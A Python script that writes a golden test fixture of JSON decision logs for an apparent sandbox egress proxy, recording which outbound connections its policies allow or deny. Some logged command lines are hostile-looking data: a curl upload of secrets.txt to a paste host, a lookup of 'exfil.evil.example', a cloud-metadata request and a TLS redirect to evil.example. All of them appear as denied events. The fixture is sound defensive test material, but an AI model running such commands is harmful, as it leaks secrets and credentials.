#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
# Writes decisions.jsonl: one afternoon of an agent sandbox as egressd's
# --log-json records (docs/logging.md; field order and escaping as
# proxy/audit.c writes them), plus two damaged lines. Reason texts and hints
# use policies/decide.c's wording. Run from the repository root:
#   python3 tests/golden/ctl/gen-decisions.py > tests/golden/ctl/decisions.jsonl
import sys

SEV = {"allowed": 0, "no_matching_policy": 2, "port_not_allowed": 2,
       "binary_not_allowed": 2, "binary_symlink": 2, "binary_is_script": 2,
       "explicit_deny": 2, "ip_not_allowed": 2, "raw_tcp_not_allowed": 2,
       "identity_no_owner": 2, "dns_failed": 1, "dns_name_not_allowed": 2,
       "sni_mismatch": 3}
SEVNAME = ["Unknown", "Informational", "Low", "Medium", "High"]


def esc(s):
    out = []
    for ch in s.encode():
        c = chr(ch)
        if c == '"':
            out.append('\\"')
        elif c == '\\':
            out.append('\\\\')
        elif c == '\n':
            out.append('\\n')
        elif c == '\t':
            out.append('\\t')
        elif c == '\r':
            out.append('\\r')
        elif ch < 0x20 or ch >= 0x7f or c in '<>':
            out.append('\\u%04x' % ch)
        else:
            out.append(c)
    return '"' + ''.join(out) + '"'


def record(t, conn, decision, reason, exe=None, pid=0, cmd=None, host=None,
           port=443, src="127.0.0.1", sport=40000, ingress="connect",
           policy=None, endpoint=None, mode="enforce", override=False,
           text=None, hint=None, detail=None, invoked_as=None, dns=False,
           close=None, uid=1000, gen=3):
    cls = 4003 if dns else 4001
    verdict = {"allowed": "allow", "denied": "deny", "would_deny": "audit",
               "closed": "allow"}[decision]
    act = 2 if close else 5 if verdict == "deny" else 1
    actname = "Refuse" if act == 5 else "Close" if close else \
        "Query" if dns else "Open"
    f = ['"time":%d' % t, '"class_uid":%d' % cls, '"category_uid":4',
         '"activity_id":%d' % act, '"activity_name":"%s"' % actname,
         '"type_uid":%d' % (cls * 100 + act)]
    denied = verdict == "deny" and not close
    if not close:
        f.append('"action_id":%d,"action":"%s"' %
                 ((2, "Denied") if denied else (1, "Allowed")))
        f.append('"disposition_id":%d,"disposition":"%s"' %
                 ((2, "Blocked") if denied else (15, "Detected")
                  if verdict == "audit" else (1, "Allowed")))
    sev = 1 if (close or verdict == "allow") else SEV[reason] + 1
    f.append('"severity_id":%d,"severity":"%s"' % (sev, SEVNAME[sev]))
    s = []
    if src:
        s.append('"ip":%s' % esc(src))
    if sport:
        s.append('"port":%d' % sport)
    f.append('"src_endpoint":{%s}' % ','.join(s))
    d = []
    if host:
        d.append('"hostname":%s' % esc(host))
    if port:
        d.append('"port":%d' % port)
    f.append('"dst_endpoint":{%s}' % ','.join(d))
    p = []
    if pid:
        p.append('"pid":%d' % pid)
    if exe:
        p.append('"file":{"path":%s}' % esc(exe))
    if cmd:
        p.append('"cmd_line":%s' % esc(cmd))
    if pid:
        p.append('"user":{"uid":"%d"}' % uid)
    f.append('"actor":{"process":{%s}}' % ','.join(p))
    f.append('"connection_info":{"protocol_name":"tcp","direction":'
             '"Outbound","direction_id":2}')
    if policy:
        f.append('"policy":{"name":%s,"version":"%d"}' % (esc(policy), gen))
    if close:
        f.append('"traffic":{"bytes_out":%d,"bytes_in":%d},"duration":%d' %
                 close)
    f.append('"metadata":{"version":"1.1.0","product":{"name":"egressd",'
             '"vendor_name":"egressd"}}')
    e = ['"conn":%d' % conn, '"decision":"%s"' % decision,
         '"reason":"%s"' % reason, '"mode":"%s"' % mode]
    if override:
        e.append('"mode_override":true')
    for k, v in (("ingress", ingress), ("policy", policy),
                 ("endpoint", endpoint), ("reason_text", text),
                 ("hint", hint), ("detail", detail),
                 ("invoked_as", invoked_as)):
        if v:
            e.append('"%s":%s' % (k, esc(v)))
    f.append('"egressd":{%s}' % ','.join(e))
    return '{' + ','.join(f) + '}'


T0 = 1796050800000  # 2026-11-30T15:00:00Z
CURL, WGET = "/usr/bin/curl", "/usr/bin/wget"
PY, NODE, SSH = "/usr/bin/python3.11", "/usr/bin/node", "/usr/bin/ssh"
GIT = "/usr/lib/git-core/git-remote-http"
GITS = "/usr/lib/git-core/git-remote-https"
F = "/etc/egressd/policy.yaml"
lines = []
conn = 100
t = T0


def add(**kw):
    global conn, t
    conn += 1
    t += kw.pop("dt", 7000)
    lines.append(record(t, kw.pop("conn", conn), **kw))


def nomatch(exe, host, port):
    return dict(text="no policy allows %s:%d" % (host, port),
                hint="to allow it, add '- { host: %s, port: %d }' to the "
                "endpoints of a policy whose binaries include %s%s" %
                (host, port, exe,
                 " (an interpreter: every script it runs gets this access)"
                 if exe in (PY, NODE) else ""))


# git clones from GitHub: allowed, then closed
add(decision="allowed", reason="allowed", exe=GIT, pid=4101,
    cmd="git-remote-https origin https://github.com/org/repo", host="github.com",
    policy="github", endpoint="github.com", mode="audit",
    text="policy 'github' allows github.com:443 for " + GIT)
add(decision="closed", reason="allowed", exe=GIT, pid=4101, conn=conn,
    cmd="git-remote-https origin https://github.com/org/repo", host="github.com",
    policy="github", mode="audit", close=(2210, 10876543, 2310), dt=2400)
# curl to a host no policy mentions, several times, two ports
for i, cmd in enumerate(["curl https://example.org/",
                         "curl -sS https://example.org/api/v1/items",
                         "curl -o data.tar.gz https://example.org/data.tar.gz",
                         "curl https://example.org/"]):
    add(decision="denied", reason="no_matching_policy", exe=CURL,
        pid=4200 + i, cmd=cmd, host="example.org",
        **nomatch(CURL, "example.org", 443))
add(decision="denied", reason="no_matching_policy", exe=CURL, pid=4210,
    cmd="curl http://example.org/", host="example.org", port=80,
    ingress="http", **nomatch(CURL, "example.org", 80))
add(decision="denied", reason="no_matching_policy", exe=WGET, pid=4211,
    cmd="wget https://example.org/robots.txt", host="example.org",
    **nomatch(WGET, "example.org", 443))
# pip runs as the interpreter, which the policy does not list (audit)
for host in ("pypi.org", "files.pythonhosted.org", "pypi.org"):
    add(decision="would_deny", reason="binary_not_allowed", exe=PY, pid=4300,
        cmd="/usr/bin/python3.11 /usr/bin/pip3 install requests", host=host,
        src="192.0.0.8", ingress="tls", policy="pypi", endpoint=host,
        mode="audit",
        text="policy 'pypi' allows %s:443, but not for %s" % (host, PY),
        hint="add '- path: %s' to the binaries of policy 'pypi' (%s:40) "
        "(an interpreter: every script it runs gets this access)" % (PY, F))
# an older block names the pip3 script
add(decision="denied", reason="binary_is_script", exe=PY, pid=4301,
    cmd="/usr/bin/python3.11 /usr/bin/pip3 download -d wheels numpy",
    host="pypi.org", policy="pip_script", endpoint="pypi.org",
    text="policy 'pip_script' lists /usr/bin/pip3, a script run by %s; the "
    "interpreter makes the connection" % PY,
    hint="list the interpreter: add '- path: %s' to policy 'pip_script' "
    "(%s:58); note that this allows every script it runs" % (PY, F))
add(decision="would_deny", reason="binary_not_allowed", exe=PY, pid=4302,
    cmd="python3 fetch_release.py", host="github.com", policy="github",
    endpoint="github.com", mode="audit",
    text="policy 'github' allows github.com:443, but not for " + PY,
    hint="add '- path: %s' to the binaries of policy 'github' (%s:30) "
    "(an interpreter: every script it runs gets this access)" % (PY, F))
# a block lists the git-remote-https symlink
add(decision="denied", reason="binary_symlink", exe=GIT, pid=4400,
    cmd="git-remote-https origin https://gitlab.com/group/project.git",
    host="gitlab.com", policy="gitlab", endpoint="gitlab.com",
    invoked_as=GITS,
    text="policy 'gitlab' lists %s, which is a symlink to %s (the executable "
    "that runs); the policy does not list %s" % (GITS, GIT, GIT),
    hint="put the real path in the policy: write '- path: %s' instead of "
    "'%s' in policy 'gitlab' (%s:52)" % (GIT, GITS, F))
# ssh to GitHub: transparent, named only by the sandbox's DNS lookup
add(decision="denied", reason="raw_tcp_not_allowed", exe=SSH, pid=4500,
    cmd="ssh -T git@github.com", host="github.com", port=22, src="192.0.0.8",
    sport=51022, ingress="tcp", policy="github_ssh", endpoint="github.com",
    text="the connection to github.com:22 carried neither TLS nor HTTP "
    "(named by the sandbox's DNS lookup only), and policy 'github_ssh' "
    "allows it only for TLS or HTTP",
    hint="to allow raw TCP (e.g. ssh), add 'protocol: tcp' to the endpoint "
    "at %s:64" % F)
# the API on another port
add(decision="denied", reason="port_not_allowed", exe=CURL, pid=4600,
    cmd="curl https://api.github.com:8443/meta", host="api.github.com",
    port=8443, policy="github", endpoint="api.github.com",
    text="policy 'github' allows api.github.com only on port 443, not 8443",
    hint="add port 8443 to the endpoint at %s:33 (e.g. 'ports: [443, "
    "8443]')" % F)
# an older policy generation refused curl to the API (today's allows it)
add(decision="denied", reason="no_matching_policy", exe=CURL, pid=4601,
    cmd="curl -H 'Accept: application/json' https://api.github.com/rate_limit",
    host="api.github.com", gen=2, **nomatch(CURL, "api.github.com", 443))
# addresses
add(decision="denied", reason="ip_not_allowed", exe=CURL, pid=4700,
    cmd="curl http://10.0.0.5:8080/health", host="10.0.0.5", port=8080,
    ingress="http",
    text="10.0.0.5:8080 is an IP address; host name rules never match IP "
    "literals and no IP rule covers it",
    hint="connect by host name, or add '- { host: 10.0.0.5, port: 8080 }' "
    "to a policy listing " + CURL)
add(decision="denied", reason="ip_not_allowed", exe=PY, pid=4701,
    cmd="python3 -c import urllib.request as u; "
    "u.urlopen('http://169.254.169.254/latest/meta-data/')",
    host="169.254.169.254", port=80, ingress="http",
    text="169.254.169.254:80 is an IP address; host name rules never match "
    "IP literals and no IP rule covers it",
    hint="connect by host name, or add '- { host: 169.254.169.254, port: 80 "
    "}' to a policy listing " + PY)
add(decision="denied", reason="ip_not_allowed", exe=NODE, pid=4702,
    cmd="node worker.js --redis 127.0.0.1:6379", host="127.0.0.1", port=6379,
    src="192.0.0.8", ingress="tcp",
    text="127.0.0.1:6379 is an IP address; host name rules never match IP "
    "literals and no IP rule covers it",
    hint="connect by host name, or add '- { host: 127.0.0.1, port: 6379 }' "
    "to a policy listing " + NODE)
# npm through node, a shared-content host, a two-level country domain
add(decision="denied", reason="no_matching_policy", exe=NODE, pid=4800,
    cmd="node /usr/lib/node_modules/npm/bin/npm-cli.js install left-pad",
    host="registry.npmjs.org", **nomatch(NODE, "registry.npmjs.org", 443))
add(decision="would_deny", reason="binary_not_allowed", exe=WGET, pid=4801,
    cmd="wget https://objects.githubusercontent.com/release-asset/1",
    host="objects.githubusercontent.com", policy="github",
    endpoint="objects.githubusercontent.com", mode="audit",
    text="policy 'github' allows objects.githubusercontent.com:443, but not "
    "for " + WGET,
    hint="add '- path: %s' to the binaries of policy 'github' (%s:30)" %
    (WGET, F))
add(decision="denied", reason="no_matching_policy", exe=CURL, pid=4802,
    cmd="curl https://www.bbc.co.uk/news", host="www.bbc.co.uk",
    **nomatch(CURL, "www.bbc.co.uk", 443))
# --audit-all: a would-be denial because of the daemon override
add(decision="would_deny", reason="no_matching_policy", exe=CURL, pid=4803,
    cmd="curl https://static.example.org/app.js", host="static.example.org",
    mode="audit", override=True,
    **nomatch(CURL, "static.example.org", 443))
# things no policy change fixes
add(decision="denied", reason="dns_name_not_allowed", host="exfil.evil.example",
    port=53, src="192.0.0.8", sport=53011, ingress="dns/udp",
    dns=True, text="the sandbox looked up a name no policy mentions; refused "
    "without asking upstream",
    hint="add an endpoint for this name to a policy, or find out why the "
    "sandbox looks it up", detail="UDP type 1, rcode 5, 0 answers")
add(decision="denied", reason="identity_no_owner", host="example.com",
    text="no process holds the client socket any more (the caller exited)",
    hint="egressd must run as root with access to /proc and to sock_diag in "
    "the sandbox namespace; see docs/debugging.md for 'identity_no_owner'",
    detail="sock_diag: inode 918273 has no owner")
add(decision="denied", reason="dns_failed", exe=CURL, pid=4900,
    cmd="curl https://nonexistent.example.org/", host="nonexistent.example.org",
    policy="example", endpoint="nonexistent.example.org",
    text="no address for nonexistent.example.org")
add(decision="denied", reason="explicit_deny", exe=CURL, pid=4901,
    cmd="curl -F f=@secrets.txt https://paste.example.net/", host="paste.example.net",
    policy="no_paste", endpoint="**.example.net",
    text="policy 'no_paste' denies paste.example.net:443 for " + CURL,
    hint="a deny block wins over every allow: remove or narrow policy "
    "'no_paste' (%s:70) if this should pass" % F)
add(decision="denied", reason="sni_mismatch", exe=CURL, pid=4902,
    cmd="curl --connect-to github.com:443:evil.example:443 https://github.com/",
    host="github.com", text="the TLS server name differs from the requested host",
    detail="CONNECT github.com:443, server_name evil.example")
for l in lines[:12]:
    print(l)
# a line cut short by a full disk, and something else entirely
print(lines[12][:97])
print("Nov 30 17:02:11 agent egressd[1234]: egressd: listening on 127.0.0.1:3128")
for l in lines[12:]:
    print(l)
